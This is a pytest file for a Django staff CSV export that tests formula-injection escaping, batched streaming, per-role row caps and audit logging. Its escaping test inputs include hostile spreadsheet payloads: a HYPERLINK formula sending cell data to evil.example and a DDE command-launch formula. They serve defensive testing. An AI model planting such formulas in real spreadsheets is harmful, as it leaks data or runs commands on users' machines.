"""Lists as files: bounded, harmless in a spreadsheet, and remembered (proof X-3)."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from staff import exports
from staff.exports import Column, Export, as_csv, cell
from staff.lists import Order
from staff.models import AuditEvent, User
from staff.permissions import (
    EXPORTED_ROWS,
    ROLES,
    NotPermitted,
    Permission,
    Role,
    most_exported_rows,
)
from tests.staff.factories import UserFactory

NOW = datetime(2026, 2, 18, 10, 30, tzinfo=UTC)


class TestCell:
    @pytest.mark.parametrize(
        "text",
        [
            "=1+1",
            "+61412345678",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\tplain",
            "\r=1",
            "\n=1",
            "\0=1",
            "\0",
            " =1",
            "   @x",
            "\u00a0=1",
            "\u200b=1",
            "\ufeff=1",
            "\u202e=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
            "﹦1",
            "−1",
            '=HYPERLINK("https://evil.example?"&A1)',
            "=cmd|' /C calc'!A0",
            "==",
            "-",
            "-12.50",
        ],
    )
    def test_never_begins_a_formula(self, text: str) -> None:
        assert cell(text).startswith("'")
        assert cell(text).removeprefix("'").replace("'", "") == text.replace("'", "")

    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("a;=1+1", "a;'=1+1"),
            ("a, -b", "a, '-b"),
            ("a\n=1", "a\n'=1"),
            ("a\r\n @x", "a\r\n '@x"),
            ("a|+1", "a|'+1"),
        ],
    )
    def test_guards_what_other_separators_would_split_off(self, text: str, shown: str) -> None:
        assert cell(text) == shown

    @pytest.mark.parametrize(
        "text", ["", "María García", "a=b", "a - b", "james@example.com", "order_1", "0011", "'=1"]
    )
    def test_leaves_other_texts_as_they_are(self, text: str) -> None:
        assert cell(text) == text

    @pytest.mark.parametrize(
        ("value", "shown"),
        [
            (Decimal("-12.50"), "-12.50"),
            (Decimal("1E+3"), "1000"),
            (-3, "-3"),
            (None, ""),
            (True, "yes"),
            (
                datetime(2026, 2, 18, 12, tzinfo=timezone(timedelta(hours=2))),
                "2026-02-18T10:00:00Z",
            ),
        ],
    )
    def test_keeps_numbers_and_moments(self, value: object, shown: str) -> None:
        assert cell(value) == shown

    @pytest.mark.parametrize("text", ["\t" * 100_000 + "x", ", " * 50_000, "=" * 100_000])
    def test_takes_long_texts_in_its_stride(self, text: str) -> None:
        """A scan that doubled back on itself would not end here."""
        assert len(cell(text)) >= len(text)


@pytest.mark.django_db
class TestAsCsv:
    def export(self, *, value: Any = lambda user: user.email, **changes: Any) -> Export[User]:
        given: dict[str, Any] = {
            "name": "people",
            "columns": [Column("email", value)],
            "rows": User.objects.all(),
            "order": Order("joined_at", newest_first=True),
            "asked": {"tab": "all"},
        }
        return Export(**(given | changes))

    def read(self, response: Any) -> list[list[str]]:
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))

    def test_holds_every_row_once_in_order(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(exports, "BATCH", 3)
        auditor = UserFactory(roles=["auditor"], joined_at=NOW)
        for number in range(10):
            UserFactory(joined_at=NOW - timedelta(minutes=number // 2))

        title, *lines = self.read(as_csv(self.export(), by=auditor, at=NOW))

        newest_first = User.objects.order_by("-joined_at", "-pk").values_list("email", flat=True)
        assert title == ["email"]
        assert [line[0] for line in lines] == list(newest_first)

    def test_reads_in_batches_and_no_row_twice(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(exports, "BATCH", 5)
        UserFactory.create_batch(9)
        response = as_csv(self.export(), by=UserFactory(roles=["auditor"]), at=NOW)

        with CaptureQueriesContext(connection) as queries:
            self.read(response)

        reads = [
            q["sql"] for q in queries if q["sql"].startswith("SELECT") and "joined" in q["sql"]
        ]
        assert len(reads) == 3
        assert all("LIMIT 5" in sql for sql in reads)

    def test_is_remembered_with_person_filter_and_rows(self) -> None:
        auditor = UserFactory(roles=["auditor"])
        UserFactory.create_batch(2)

        self.read(as_csv(self.export(), by=auditor, at=NOW))

        started, ended = AuditEvent.objects.order_by("sequence")
        assert (started.verb, started.by, started.subject_id) == (
            "staff.export.started",
            auditor,
            "people",
        )
        assert started.after == {
            "filter": {"tab": "all"},
            "rows": 3,
            "is_cut": False,
            "columns": ["email"],
        }
        assert (ended.verb, ended.by, ended.after) == ("staff.export.ended", auditor, {"rows": 3})

    def test_remembers_how_much_had_left_when_the_reader_went_away(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(exports, "BATCH", 2)
        UserFactory.create_batch(6)
        response = as_csv(self.export(), by=UserFactory(roles=["auditor"]), at=NOW)
        parts = iter(response)
        next(parts), next(parts)

        for close in response._resource_closers:  # what a server does with the answer at its end
            close()

        assert AuditEvent.objects.latest("sequence").after == {"rows": 2}

    def test_ends_where_the_role_ends(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(EXPORTED_ROWS, Role.VIEWER, 3)  # type: ignore[index]
        monkeypatch.setattr(exports, "BATCH", 2)
        UserFactory.create_batch(6)

        lines = self.read(as_csv(self.export(), by=UserFactory(roles=["viewer"]), at=NOW))

        assert len(lines) == 1 + 3
        assert AuditEvent.objects.earliest("sequence").after["is_cut"] is True

    def test_guards_what_people_wrote(self) -> None:
        person = UserFactory(roles=["auditor"])

        lines = self.read(as_csv(self.export(value=lambda user: "=1+1"), by=person, at=NOW))

        assert lines[1:] == [["'=1+1"]]

    @pytest.mark.parametrize("roles", [[], ["agent"], ["admin"]])
    def test_is_refused_to_others(self, roles: list[str]) -> None:
        with pytest.raises(NotPermitted):
            as_csv(self.export(), by=UserFactory(roles=roles), at=NOW)

        assert not AuditEvent.objects.exists()


@pytest.mark.django_db
class TestCap:
    def test_stands_for_exactly_those_who_may_export(self) -> None:
        assert set(EXPORTED_ROWS) == {
            role for role, rights in ROLES.items() if Permission.EXPORT_LISTS in rights
        }

    def test_is_the_widest_of_the_roles_held(self) -> None:
        assert most_exported_rows(UserFactory(roles=["viewer", "auditor"])) == 50_000
        assert most_exported_rows(UserFactory(roles=["agent"])) == 0
